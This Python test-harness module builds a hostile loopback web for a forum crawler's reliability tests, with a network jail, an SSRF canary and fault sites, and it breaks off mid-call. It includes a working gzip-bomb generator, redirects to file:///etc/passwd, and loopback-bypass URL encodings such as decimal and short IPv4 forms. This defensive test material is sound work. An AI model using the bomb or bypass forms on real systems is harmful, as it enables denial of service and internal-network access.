"""A hostile web on loopback: healthy sites mixed with every fault a crawler meets, for end-to-end tests.

:class:`FaultWeb` is one threaded raw-socket server on 127.0.0.1 acting as the crawl's HTTP proxy,
so ``http://club.test/`` is answered on loopback whatever its name. Each route is a
:class:`Behaviour` that writes the bytes itself: it can drip one byte a second, reset the
connection mid-body, cut a body short, stream chunks forever, send a gzip bomb (a few MB on the
wire, gigabytes inflated, generated block by block) or a 50 MB page (streamed, never held in
memory). Every request is logged with host, path and User-Agent; a ``CONNECT`` (an https attempt)
is logged and refused.

:class:`Canary` listens on loopback addresses that are *not* allow-listed (the stand-in for private
networks: 127.0.0.1 and 127.0.0.2 on a port of its own) and records every connection: a test
asserts it stays empty.

:func:`run_crawl` starts ``tremplin crawl`` in a child process inside a *network jail*
(:func:`install_netjail`): the child resolves no name except the ones the test maps to loopback
(no DNS query ever leaves), refuses to connect outside 127.0.0.0/8 and ``::1`` and logs any
attempt, and reports its peak RSS.

:func:`build_hostile_web` builds the web of the reliability tests and the soak (``scale`` copies of
every fault), with the :class:`Plan` of what each site must leave in the database.
"""

from __future__ import annotations

import errno
import functools
import ipaddress
import json
import os
import random
import re
import select
import socket
import socketserver
import sqlite3
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import unquote, urlsplit

REPO = Path(__file__).resolve().parents[1]
FIXTURES = REPO / "tests" / "fixtures"
ROBOTS_ALLOW = b"User-agent: *\nAllow: /\n"
TEXT = "text/plain; charset=utf-8"
HTML = "text/html; charset=utf-8"
JSON_TYPE = "application/json; charset=utf-8"
MIB = 1024 * 1024
# A behaviour never streams longer than this, whatever the client does (a test must end).
MAX_STREAM_SECONDS = 120


# --- the server ----------------------------------------------------------------------------


class Conn:
    """The raw connection a behaviour writes to; every wait ends early when the web stops."""

    def __init__(self, sock: socket.socket, stop: threading.Event) -> None:
        self.sock = sock
        self.stop = stop
        self.started = time.monotonic()

    def send(self, data: bytes) -> bool:
        """Send ``data``; False once the client has gone (reset, closed) or the web is stopping."""
        if self.stop.is_set() or time.monotonic() - self.started > MAX_STREAM_SECONDS:
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            return False
        return True

    def head(self, status: int, headers: dict[str, str], reason: str = "") -> bool:
        lines = [f"HTTP/1.1 {status} {reason or _REASONS.get(status, 'Status')}"]
        lines += [f"{name}: {value}" for name, value in headers.items()]
        lines.append("Connection: close")
        return self.send(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))

    def wait(self, seconds: float) -> bool:
        """Sleep ``seconds`` unless the client hangs up or the web stops; True when still connected."""
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            if self.stop.is_set():
                return False
            readable, _, _ = select.select([self.sock], [], [], min(left, 0.2))
            if readable:
                try:
                    if not self.sock.recv(4096, socket.MSG_PEEK):
                        return False  # the client closed its side
                    self.sock.recv(4096)
                except OSError:
                    return False
        return True

    def reset(self) -> None:
        """Close with a TCP reset (RST) instead of an orderly FIN."""
        try:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self.sock.close()
        except OSError:
            pass


_REASONS = {
    200: "OK", 301: "Moved Permanently", 302: "Found", 307: "Temporary Redirect", 308: "Permanent Redirect",
    403: "Forbidden", 404: "Not Found", 410: "Gone", 429: "Too Many Requests", 500: "Internal Server Error",
    502: "Bad Gateway", 503: "Service Unavailable",
}  # fmt: skip

Behaviour = Callable[[Conn], None]


def page(body: bytes | str, status: int = 200, content_type: str | None = HTML, **headers: str) -> Behaviour:
    """An ordinary response with a correct ``Content-Length``."""
    data = body.encode("utf-8") if isinstance(body, str) else body
    head = {"Content-Type": content_type} if content_type else {}
    head.update({name.replace("_", "-"): value for name, value in headers.items()})
    head["Content-Length"] = str(len(data))

    def behave(conn: Conn) -> None:
        if conn.head(status, head):
            conn.send(data)

    return behave


def redirect(location: str, status: int = 302) -> Behaviour:
    return page(b"", status, None, Location=location)


def stall(conn: Conn) -> None:
    """Accept the request, then never answer (a dead backend behind a live socket)."""
    conn.wait(MAX_STREAM_SECONDS)


def drip(body: bytes, every: float = 1.0) -> Behaviour:
    """Send headers at once, then the body one byte every ``every`` seconds."""

    def behave(conn: Conn) -> None:
        if not conn.head(200, {"Content-Type": HTML, "Content-Length": str(len(body))}):
            return
        for index in range(len(body)):
            if not conn.send(body[index : index + 1]) or not conn.wait(every):
                return

    return behave


def cut(body: bytes, keep: int, reset: bool) -> Behaviour:
    """Announce the whole body, send ``keep`` bytes, then reset the connection or close it early."""

    def behave(conn: Conn) -> None:
        if conn.head(200, {"Content-Type": HTML, "Content-Length": str(len(body))}) and conn.send(body[:keep]):
            conn.wait(0.3)  # let the client read the bytes: a reset discards what is still unread
            if reset:
                conn.reset()

    return behave


def endless_chunks(chunk: bytes, every: float = 0.0) -> Behaviour:
    """A chunked body that never ends: the same chunk forever, ``every`` seconds apart."""
    frame = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"

    def behave(conn: Conn) -> None:
        if not conn.head(200, {"Content-Type": HTML, "Transfer-Encoding": "chunked"}):
            return
        while conn.send(frame):
            if every and not conn.wait(every):
                return

    return behave


def huge(size: int, chunked: bool = False) -> Behaviour:
    """A ``size``-byte HTML page, streamed in 64 KiB pieces, with or without ``Content-Length``."""
    block = (b"<p>" + b"lorem ipsum dolor sit amet " * 2426 + b"</p>\n")[: 64 * 1024]

    def behave(conn: Conn) -> None:
        headers = {"Content-Type": HTML}
        headers.update({"Transfer-Encoding": "chunked"} if chunked else {"Content-Length": str(size)})
        if not conn.head(200, headers):
            return
        sent = 0
        while sent < size:
            piece = block[: size - sent]
            data = f"{len(piece):x}\r\n".encode() + piece + b"\r\n" if chunked else piece
            if not conn.send(data):
                return
            sent += len(piece)
        if chunked:
            conn.send(b"0\r\n\r\n")

    return behave


def gzip_bomb_parts(inflated_mib: int) -> tuple[bytes, bytes, int]:
    """Return (first block, repeated block, wire size) of a gzip stream of ``inflated_mib`` MiB of zeros.

    After a full flush deflate restarts from an empty window, so every further MiB of zeros
    compresses to the same ~1 KB: the stream is built by repetition, never by compressing GBs.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(MIB)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    steady = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    size = len(first) + len(steady) * (inflated_mib - 1) + 2 + 8
    return first, steady, size


@functools.lru_cache(maxsize=4)
def gzip_bomb_body(inflated_mib: int) -> bytes:
    """The whole bomb as sent (a few MB), valid to the last byte: built once, before any crawl starts."""
    first, steady, _ = gzip_bomb_parts(inflated_mib)
    crc = 0
    zeros = bytes(16 * MIB)
    for _ in range(inflated_mib // 16):
        crc = zlib.crc32(zeros, crc)
    crc = zlib.crc32(bytes((inflated_mib % 16) * MIB), crc)
    # An empty final deflate block, then the gzip trailer (CRC-32 and size modulo 2**32).
    trailer = b"\x03\x00" + struct.pack("<II", crc, (inflated_mib * MIB) & 0xFFFFFFFF)
    return first + steady * (inflated_mib - 1) + trailer


def gzip_bomb(inflated_mib: int) -> Behaviour:
    """``Content-Encoding: gzip`` of ``inflated_mib`` MiB of zeros; the wire bytes are sent in one go.

    Generating them per request would let a busy test machine turn the bomb into a timeout.
    """
    body = gzip_bomb_body(inflated_mib)
    return page(body, content_type=HTML, Content_Encoding="gzip")


@dataclass
class Exchange:
    """One request the web received."""

    host: str
    path: str
    user_agent: str
    method: str = "GET"


class FaultWeb:
    """Sites by host name, each ``{path_with_query: Behaviour}``, served through one loopback proxy port.

    Unknown hosts answer 502, unknown paths 404; every site gets an allow-all robots.txt unless its
    routes have one. ``wildcards`` answer whole families of host names (``*.flood.test``).
    """

    def __init__(self) -> None:
        self.sites: dict[str, dict[str, Behaviour]] = {}
        self.wildcards: list[tuple[str, Callable[[str], dict[str, Behaviour]]]] = []
        self.log: list[Exchange] = []
        self.stop = threading.Event()
        self.server: socketserver.ThreadingTCPServer | None = None

    def add(self, host: str, routes: dict[str, Behaviour]) -> None:
        routes = {_norm_path(path): behaviour for path, behaviour in routes.items()}
        routes.setdefault("/robots.txt", page(ROBOTS_ALLOW, content_type=TEXT))
        self.sites[host.lower()] = routes

    def add_wildcard(self, suffix: str, routes_for: Callable[[str], dict[str, Behaviour]]) -> None:
        self.wildcards.append((suffix.lower(), routes_for))

    def routes(self, host: str) -> dict[str, Behaviour] | None:
        if host in self.sites:
            return self.sites[host]
        for suffix, routes_for in self.wildcards:
            if host.endswith(suffix):
                self.add(host, routes_for(host))
                return self.sites[host]
        return None

    def paths(self, host: str) -> list[str]:
        return [entry.path for entry in self.log if entry.host == host]

    def hosts_contacted(self) -> set[str]:
        return {entry.host for entry in self.log}

    def _serve(self, sock: socket.socket) -> None:
        sock.settimeout(10)
        data = b""
        try:
            while b"\r\n\r\n" not in data and len(data) < 65536:
                more = sock.recv(4096)
                if not more:
                    return
                data += more
        except OSError:
            return
        sock.settimeout(None)
        head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")
        method, target, _ = (head[0].split(" ") + ["", "", ""])[:3]
        headers = {}
        for line in head[1:]:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
        agent = headers.get("user-agent", "")
        conn = Conn(sock, self.stop)
        if method == "CONNECT":
            # An https request: nothing in the tests needs one, so it is logged and refused.
            self.log.append(Exchange(target.lower(), "", agent, method))
            page(b"no tunnels here", 403, TEXT)(conn)
            return
        parts = urlsplit(target)
        host = (parts.hostname or headers.get("host", "").split(":")[0]).lower()
        if parts.port and parts.port != 80:
            host = f"{host}:{parts.port}"
        path = _norm_path((parts.path or "/") + (f"?{parts.query}" if parts.query else ""))
        self.log.append(Exchange(host, path, agent, method))
        routes = self.routes(host)
        if routes is None:
            behaviour = page(b"no such host", 502, TEXT)
        else:
            behaviour = routes.get(path) or page(b"not found", 404, TEXT)
        behaviour(conn)

    def __enter__(self) -> FaultWeb:
        web = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                web._serve(self.request)

        class Server(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True
            request_queue_size = 256
            block_on_close = False

        self.server = Server(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        assert self.server is not None
        self.server.shutdown()
        self.server.server_close()

    @property
    def proxy(self) -> str:
        return f"http://127.0.0.1:{self.port}"


def _norm_path(path: str) -> str:
    # The crawler percent-encodes some characters (``|`` in MediaWiki queries); compare decoded.
    return unquote(path)


class Canary:
    """Loopback listeners that no request may reach: 127.0.0.1 and 127.0.0.2 on a port not allow-listed."""

    def __init__(self) -> None:
        self.hits: list[tuple[str, bytes]] = []
        self.sockets: list[socket.socket] = []
        self.stop = threading.Event()

    def __enter__(self) -> Canary:
        for _ in range(20):
            first = socket.socket()
            first.bind(("127.0.0.1", 0))
            self.port = first.getsockname()[1]
            second = socket.socket()
            try:
                second.bind(("127.0.0.2", self.port))
            except OSError:
                first.close()
                second.close()
                continue
            self.sockets = [first, second]
            break
        else:  # pragma: no cover - a host without 127.0.0.2
            raise RuntimeError("cannot bind the canary on 127.0.0.1 and 127.0.0.2")
        for sock in self.sockets:
            sock.listen(16)
            sock.settimeout(0.2)
            threading.Thread(target=self._accept, args=(sock,), daemon=True).start()
        return self

    def _accept(self, sock: socket.socket) -> None:
        while not self.stop.is_set():
            try:
                client, address = sock.accept()
            except (TimeoutError, OSError):
                continue
            client.settimeout(1)
            try:
                data = client.recv(200)
                client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nSECRET")
            except OSError:
                data = b""
            client.close()
            self.hits.append((address[0], data))

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        for sock in self.sockets:
            sock.close()


# --- the network jail and the crawl launcher -------------------------------------------------


def _loopback(address: str) -> bool:
    try:
        ip = ipaddress.ip_address(address.split("%")[0])
    except ValueError:
        return False
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        ip = ip.ipv4_mapped
    return ip.is_loopback


def _numeric(host: str) -> str | None:
    """Return the IPv4/IPv6 address a numeric host spells (``127.1`` and ``2130706433`` too), else None."""
    try:
        return str(ipaddress.ip_address(host.strip("[]")))
    except ValueError:
        pass
    try:
        return socket.inet_ntoa(socket.inet_aton(host))
    except OSError:
        return None


def install_netjail(hosts: dict[str, str], log_path: str | None, ports: set[int] | None = None) -> None:
    """Keep this process on loopback: names resolve only through ``hosts``, connections only to 127/8.

    With ``ports``, only those loopback ports may be connected to (the test web's proxy): any other,
    such as port 80 of the machine, is refused like an outside address. A refused attempt is
    appended to ``log_path`` so the test can assert there was none.
    """
    real_getaddrinfo = socket.getaddrinfo
    real_connect = socket.socket.connect
    real_connect_ex = socket.socket.connect_ex

    def record(what: str) -> None:
        if log_path:
            with open(log_path, "a", encoding="utf-8") as log:
                log.write(what + "\n")

    def resolve(host: str | bytes | None) -> str | None:
        name = host.decode("ascii", "replace") if isinstance(host, bytes) else host
        if name is None:
            return None
        mapped = hosts.get(name.lower().rstrip("."))
        if mapped:
            return mapped
        if _numeric(name) is not None:
            return name
        record(f"dns {name}")
        raise socket.gaierror(socket.EAI_NONAME, f"netjail: no DNS in tests ({name})")

    def getaddrinfo(host, port, *args, **kwargs):
        return real_getaddrinfo(resolve(host), port, *args, **kwargs)

    def gethostbyname(name):
        return socket.inet_ntoa(socket.inet_aton(_numeric(resolve(name)) or "0.0.0.0"))

    def allowed(sock: socket.socket, address) -> bool:
        if sock.family not in (socket.AF_INET, socket.AF_INET6):
            return True
        if _loopback(str(address[0])) and (not ports or int(address[1]) in ports):
            return True
        record(f"connect {address[0]}:{address[1]}")
        return False

    def connect(self, address):
        if not allowed(self, address):
            raise ConnectionRefusedError(errno.ECONNREFUSED, "netjail: outside loopback")
        return real_connect(self, address)

    def connect_ex(self, address):
        if not allowed(self, address):
            return errno.ECONNREFUSED
        return real_connect_ex(self, address)

    socket.getaddrinfo = getaddrinfo
    socket.gethostbyname = gethostbyname
    socket.socket.connect = connect
    socket.socket.connect_ex = connect_ex


def jailed_main() -> None:
    """Entry point of the crawl child: jail the process, run ``tremplin``, report peak RSS."""
    import resource

    hosts = json.loads(os.environ.get("TREMPLIN_TEST_HOSTS", "{}"))
    ports = {int(port) for port in os.environ.get("TREMPLIN_TEST_PORTS", "").split(",") if port}
    install_netjail(hosts, os.environ.get("TREMPLIN_TEST_JAIL_LOG"), ports)
    from crawler.cli import main

    try:
        code = main(sys.argv[1:])
    finally:
        rss_file = os.environ.get("TREMPLIN_TEST_RSS_FILE")
        if rss_file:
            Path(rss_file).write_text(str(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss), encoding="utf-8")
    sys.exit(code)


BOOT = "from tests.faultweb import jailed_main; jailed_main()"


@dataclass
class CrawlRun:
    """What a jailed crawl did: exit status, output, wall time, peak RSS and network-jail refusals."""

    returncode: int
    stdout: str
    stderr: str
    seconds: float
    peak_rss_kb: int
    jail: list[str]


def crawl_command(db: Path, *args: str) -> list[str]:
    return [sys.executable, "-c", BOOT, "crawl", "--db", str(db), *args]


def crawl_env(web: FaultWeb, workdir: Path, hosts: dict[str, str] | None = None,
              direct: list[str] | None = None) -> dict[str, str]:  # fmt: skip
    """Environment of a jailed crawl: every http(s) request through ``web``, except to ``hosts`` and ``direct``."""
    hosts = hosts or {}
    env = {key: value for key, value in os.environ.items() if "proxy" not in key.lower()}
    env.update(
        {
            "http_proxy": web.proxy,
            "https_proxy": web.proxy,
            # Names mapped to loopback stand for hosts resolving privately, and numeric hosts (127.1,
            # 2130706433) are addresses: both are contacted directly, so a guard failure would show.
            "no_proxy": ",".join([*hosts, *(direct or [])]),
            "TREMPLIN_TEST_HOSTS": json.dumps(hosts),
            "TREMPLIN_TEST_PORTS": str(web.port),
            "TREMPLIN_TEST_JAIL_LOG": str(workdir / "jail.log"),
            "TREMPLIN_TEST_RSS_FILE": str(workdir / "rss.txt"),
            "PYTHONPATH": str(REPO),
        }
    )
    return env


def run_crawl(
    web: FaultWeb,
    db: Path,
    workdir: Path,
    args: list[str],
    hosts: dict[str, str] | None = None,
    timeout: float = 120,
    direct: list[str] | None = None,
) -> CrawlRun:
    """Run ``tremplin crawl --db DB ARGS`` in the network jail, through ``web``; wait for the end."""
    workdir.mkdir(parents=True, exist_ok=True)
    for name in ("jail.log", "rss.txt"):
        (workdir / name).unlink(missing_ok=True)
    started = time.monotonic()
    result = subprocess.run(
        crawl_command(db, *args), cwd=REPO, env=crawl_env(web, workdir, hosts, direct),
        capture_output=True, text=True, timeout=timeout, check=False,
    )  # fmt: skip
    seconds = time.monotonic() - started
    jail_log = workdir / "jail.log"
    rss = workdir / "rss.txt"
    return CrawlRun(
        returncode=result.returncode,
        stdout=result.stdout,
        stderr=result.stderr,
        seconds=seconds,
        peak_rss_kb=int(rss.read_text()) if rss.is_file() else 0,
        jail=jail_log.read_text().splitlines() if jail_log.is_file() else [],
    )


# --- the hostile web of the tests --------------------------------------------------------------


def fixture(path: str) -> bytes:
    return (FIXTURES / path).read_bytes()


def expected(path: str) -> dict:
    return json.loads((FIXTURES / path).read_text(encoding="utf-8"))["expect"]


@dataclass
class Fault:
    """A site whose visit must leave exactly one ``fetch_errors`` row of ``kind``."""

    fault_class: str
    kind: str
    seed: str
    status: str | None = None  # the community status expected, when the homepage itself fails


@dataclass
class Content:
    """A site whose body attacks the reader or the parser; it must be stored with these values."""

    fault_class: str
    seed: str
    values: dict = field(default_factory=dict)  # column -> exact value; "metrics" -> every metric stored


@dataclass
class Plan:
    """What every site of a hostile web must leave in the database."""

    healthy: list[str] = field(default_factory=list)  # seed URLs of fault-free sites
    faults: dict[str, Fault] = field(default_factory=dict)  # site id -> fault
    content: dict[str, Content] = field(default_factory=dict)  # site id -> hostile content
    traps: dict[str, str] = field(default_factory=dict)  # seed URL -> trap class
    trap_domains: set[str] = field(default_factory=set)  # registrable domains a trap spans
    hosts: dict[str, str] = field(default_factory=dict)  # names the jail resolves (to loopback)
    direct: list[str] = field(default_factory=list)  # numeric host names contacted without the proxy
    robots_disallowed: dict[str, list[str]] = field(default_factory=dict)  # host -> path prefixes
    # Personal data the hostile pages print (names, addresses, phones, post text, session ids):
    # none may appear in any text column of any table.
    planted: list[str] = field(default_factory=list)
    schedule: dict[str, int] = field(default_factory=dict)  # site id -> seconds from visit to next_due_at
    # Sites only reached through a link (so met once whatever the copies): site id -> the error kind.
    refused_links: dict[str, str] = field(default_factory=dict)

    @property
    def seeds(self) -> list[str]:
        return [
            *self.healthy, *(f.seed for f in self.faults.values()), *(c.seed for c in self.content.values()),
            *self.traps,
        ]  # fmt: skip

    def fault_classes(self) -> list[str]:
        classes = [f.fault_class for f in self.faults.values()] + [c.fault_class for c in self.content.values()]
        return sorted(set(classes) | set(self.traps.values()))


def _shell(title: str, head: str = "") -> bytes:
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
        "<body></body></html>"
    ).encode()


def healthy_sites(web: FaultWeb) -> list[str]:
    """Add the fault-free sites, each from real fixture bodies under its own host; return their seeds."""
    from crawler.platforms.mediawiki import SITEINFO_QUERY

    html_homepages = {
        "www.chemicalforums.com": "smf/chemicalforums-smf2-index.html",
        "cs-joke.pl": "mybb/cs-joke-pl-index.html",
        "www.quiltingboard.com": "vbulletin/quiltingboard-vb4-forumhome.html",
        "forums.cronusmax.com": "xenforo/cronusmax-xf2-forum-list.html",
        "www.nsaneforums.com": "invision/nsaneforums-ips4-index.html",
        "polyglotclub.com": "generic/polyglotclub-home-head.html",
        "forum-wedkarskie.example.pl": "xenforo/handmade-pl-xf2-forum-list.html",
        "foro-ciclismo.example.es": "smf/handmade-es-infocenter.html",
    }
    seeds = []
    for host, body in html_homepages.items():
        web.add(host, {"/": page(fixture(body))})
        seeds.append(f"http://{host}/")
    web.add("homelab-hangout.example.org", {
        "/": page(fixture("nodebb/handmade-homepage.html")),
        "/api/config": page(fixture("nodebb/handmade-api-config.json"), content_type=JSON_TYPE),
        "/api": page(fixture("nodebb/handmade-api-home.json"), content_type=JSON_TYPE),
    })  # fmt: skip
    web.add("meta.discourse.org", {
        "/": page(_shell("Discourse Meta", '<meta name="generator" content="Discourse 2.2.0 - https://github.com/discourse/discourse">')),
        "/about.json": page(fixture("discourse/meta-derived-about-v2.2-FIXTURE.json"), content_type=JSON_TYPE),
        "/latest.json": page(fixture("discourse/handmade-latest.json"), content_type=JSON_TYPE),
    })  # fmt: skip
    web.add("wikiti.brandonw.net", {
        "/": page(_shell("WikiTI", '<meta name="generator" content="MediaWiki 1.39.3">')),
        f"/w/api.php?{SITEINFO_QUERY}": page(fixture("mediawiki/wikiti.brandonw.net-siteinfo-2023.json"),
                                             content_type=JSON_TYPE),
    })  # fmt: skip
    seeds += [
        f"http://{host}/" for host in ("homelab-hangout.example.org", "meta.discourse.org", "wikiti.brandonw.net")
    ]
    return seeds


def generated_healthy_sites(web: FaultWeb, count: int) -> list[str]:
    """``count`` more fault-free sites for the soak: phpBB and generic pages with distinct figures."""
    seeds = []
    for index in range(count):
        host = f"club-{index:04d}.healthy-{index:04d}.test"
        members = 1000 + index * 37
        if index % 2:
            body = (
                '<!DOCTYPE html><html lang="en-gb"><head><meta charset="utf-8">'
                f'<title>Board {index} - Index page</title></head><body id="phpbb" class="section-index ltr">'
                f"<h1>Board {index}</h1>"
                '<div class="stat-block statistics"><h3>Statistics</h3>'
                f"<p>Total posts <strong>{members * 9}</strong> &bull; Total topics <strong>{members * 2}</strong> "
                f"&bull; Total members <strong>{members}</strong></p></div>"
                '<p class="copyright">Powered by <a href="/">phpBB</a></p></body></html>'
            )
        else:
            body = (
                f'<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Club {index}</title>'
                f'<meta property="og:site_name" content="Club {index}"></head>'
                f"<body><h1>Club {index}</h1><p>Rejoignez plus de {members} membres.</p></body></html>"
            )
        web.add(host, {"/": page(body)})
        seeds.append(f"http://{host}/")
    return seeds


def _deep_nesting(depth: int) -> bytes:
    return (
        b'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Nested Club</title>'
        b'<meta property="og:site_name" content="Nested Club"></head><body>'
        + b"<div>" * depth
        + b"Join 4,321 members"
        + b"</div>" * depth
        + b"</body></html>"
    )


def _trap_page(title: str, links: list[str]) -> bytes:
    anchors = "".join(f'<a href="{href}">{text}</a> ' for href, text in links)
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>'
        f'<meta property="og:site_name" content="{title}"></head>'
        f"<body><h1>{title}</h1><p>Join over 2,000 members.</p>{anchors}</body></html>"
    ).encode()


def add_faults(web: FaultWeb, plan: Plan, canary_port: int, copy: int = 0, bomb_mib: int = 2048) -> None:
    """Add one site per fault (``copy`` numbers a further set for the soak) and record what each must leave."""
    suffix = f"-{copy}" if copy else ""
    body = fixture("phpbb/handmade-de-index.html")

    def fault(name: str, fault_class: str, kind: str, routes: dict[str, Behaviour], status: str | None = None,
              path: str = "/") -> str:  # fmt: skip
        host = f"{name}{suffix}.test"
        web.add(host, routes)
        plan.faults[host] = Fault(fault_class, kind, f"http://{host}{path}", status)
        return host

    err = {"content_type": TEXT}
    fault("status-500", "HTTP 500", "http_500", {"/": page("boom", 500, **err)}, "unreachable")
    fault("status-502", "HTTP 502", "http_502", {"/": page("bad gateway", 502, **err)}, "unreachable")
    fault("status-503", "HTTP 503 + Retry-After", "http_503",
          {"/": page("maintenance", 503, TEXT, Retry_After="1")}, "unreachable")  # fmt: skip
    fault("status-429", "HTTP 429 + Retry-After", "http_429",
          {"/": page("slow down", 429, TEXT, Retry_After="3600")}, "unreachable")  # fmt: skip
    fault("status-403", "HTTP 403", "http_403", {"/": page("forbidden", 403, **err)}, "unreachable")
    fault("status-404", "HTTP 404", "http_404", {"/": page("not found", 404, **err)}, "gone")
    fault("status-410", "HTTP 410 Gone", "http_410", {"/": page("gone", 410, **err)}, "gone")
    fault("empty-200", "empty 200", "empty_body", {"/": page(b"")})
    fault("timeout", "timeout (no answer)", "timeout", {"/": stall}, "unreachable")
    fault("drip", "drip, one byte a second", "timeout", {"/": drip(body, 1.0)}, "unreachable")
    fault(
        "reset", "connection reset mid-body", "data_loss", {"/": cut(body, len(body) // 3, reset=True)}, "unreachable"
    )
    fault("truncated", "truncated body", "data_loss", {"/": cut(body, len(body) // 2, reset=False)}, "unreachable")
    fault("loop", "redirect loop", "redirect_loop",
          {"/": redirect("/a"), "/a": redirect("/b"), "/b": redirect("/a")}, "unreachable")  # fmt: skip
    fault("chain", "long redirect chain", "too_many_redirects",
          {"/": redirect("/hop/1"), **{f"/hop/{n}": redirect(f"/hop/{n + 1}") for n in range(1, 30)}},
          "unreachable")  # fmt: skip
    for scheme, target in (("file", "file:///etc/passwd"), ("ftp", "ftp://127.0.0.1/pub/"),
                           ("data", "data:text/html,<h1>hi</h1>")):  # fmt: skip
        fault(f"to-{scheme}", f"redirect to {scheme}:", "refused_scheme", {"/": redirect(target)}, "refused")
    private_targets = {
        "loopback": f"http://127.0.0.1:{canary_port}/admin{suffix}",
        "loopback2": f"http://127.0.0.2:{canary_port}/admin{suffix}",
        "localhost": f"http://localhost:{canary_port}/admin{suffix}",
        "ipv6": f"http://[::1]:{canary_port}/admin{suffix}",
        "decimal": f"http://2130706433:{canary_port}/admin{suffix}",
        "short": f"http://127.1:{canary_port}/admin{suffix}",
        "mapped": f"http://[::ffff:127.0.0.1]:{canary_port}/admin{suffix}",
    }
    plan.direct += ["127.1", "2130706433"]
    for label, target in private_targets.items():
        fault(f"to-private-{label}", "redirect to a private (loopback) address", "refused_private",
              {"/": redirect(target)}, "refused")  # fmt: skip
    # A name resolving to a loopback address outside the allow-list, contacted directly (not proxied).
    rebound = f"rebound{suffix}.test"
    plan.hosts[rebound] = "127.0.0.2"
    plan.faults[f"{rebound}:{canary_port}"] = Fault(
        "host name resolving to a private address", "refused_private", f"http://{rebound}:{canary_port}/", "refused"
    )
    # A name resolving to the allow-listed address 127.0.0.1, but on a port the allow-list does not name.
    rebound = f"rebound-port{suffix}.test"
    plan.hosts[rebound] = "127.0.0.1"
    plan.faults[f"{rebound}:{canary_port}"] = Fault(
        "host name resolving to an allow-listed address, other port", "refused_private",
        f"http://{rebound}:{canary_port}/", "refused",
    )  # fmt: skip
    fault("big-50mb", "50 MB page (Content-Length)", "too_large", {"/": huge(50 * MIB)}, "unreachable")
    fault("big-chunked", "50 MB page (chunked)", "too_large", {"/": huge(50 * MIB, chunked=True)}, "unreachable")
    fault("gzip-bomb", "gzip bomb (GiBs inflated)", "too_large", {"/": gzip_bomb(bomb_mib)}, "unreachable")
    fault("endless", "endless chunked stream", "too_large", {"/": endless_chunks(b"<p>more</p>" * 6000)}, "unreachable")
    fault("endless-slow", "endless chunked stream, slow", "timeout",
          {"/": endless_chunks(b"<p>tick</p>", every=0.3)}, "unreachable")  # fmt: skip
    fault("robots-all", "robots.txt forbids everything", "robots",
          {"/robots.txt": page(b"User-agent: *\nDisallow: /\n", content_type=TEXT), "/": page(body)},
          "blocked_by_robots")  # fmt: skip
    plan.robots_disallowed[f"robots-all{suffix}.test"] = ["/"]
    # A healthy forum whose statistics endpoint fails: the site is kept, the endpoint is one error row.
    discourse_home = page(_shell("Bomb Talk", '<meta name="generator" content="Discourse 3.2.1 - x">'))
    latest = page(fixture("discourse/handmade-latest.json"), content_type=JSON_TYPE)
    fault(
        "endpoint-bomb",
        "gzip bomb on a statistics endpoint",
        "too_large",
        {"/": discourse_home, "/about.json": gzip_bomb(bomb_mib), "/latest.json": latest},
    )
    fault("endpoint-drip", "drip on a statistics endpoint", "timeout",
          {"/": discourse_home, "/latest.json": latest,
           # Longer than any timeout in seconds, at one byte a second.
           "/about.json": drip(fixture("discourse/meta-derived-about-v2.2-FIXTURE.json"), 1.0)})  # fmt: skip
    # robots.txt forbids the site's links page: the page is never fetched, one "robots" row says so.
    host = fault("robots-page", "robots.txt forbids a links page", "robots", {
        "/robots.txt": page(b"User-agent: *\nDisallow: /liens\n", content_type=TEXT),
        "/": page(_trap_page("Robots Club", [("/liens", "Liens utiles")])),
        "/liens": page(_trap_page("Secret links", [("http://never.test/", "never")])),
    })  # fmt: skip
    plan.robots_disallowed[host] = ["/liens"]


def add_content(web: FaultWeb, plan: Plan, copy: int = 0) -> None:
    """Add the sites whose bodies attack parsers and readers, with the values they must be stored with."""
    suffix = f"-{copy}" if copy else ""

    def content(name: str, fault_class: str, routes: dict[str, Behaviour], values: dict) -> None:
        host = f"{name}{suffix}.test"
        web.add(host, routes)
        plan.content[host] = Content(fault_class, f"http://{host}/", values)

    def fixture_content(name: str, fault_class: str, path: str) -> None:
        # A fixture body as a site's homepage, stored with the name and figures its golden file expects.
        wanted = expected(path.replace(".html", ".expected.json"))
        content(name, fault_class, {"/": page(fixture(path))}, {"name": wanted["name"], "metrics": wanted["metrics"]})

    def rehosted(path: str, name: str) -> bytes:
        # The fixture's links to its own host now point to the test host: the same site, not another.
        own = urlsplit(json.loads((FIXTURES / path.replace(".html", ".expected.json")).read_text())["url"]).hostname
        return fixture(path).replace(own.encode(), f"{name}{suffix}.test".encode())

    ru_path = "mybb/handmade-ru-windows-1251-index.html"
    ru = expected(ru_path.replace(".html", ".expected.json"))
    content("cp1251", "windows-1251 page (charset in <meta> only)",
            {"/": page(rehosted(ru_path, "cp1251"), content_type="text/html")},
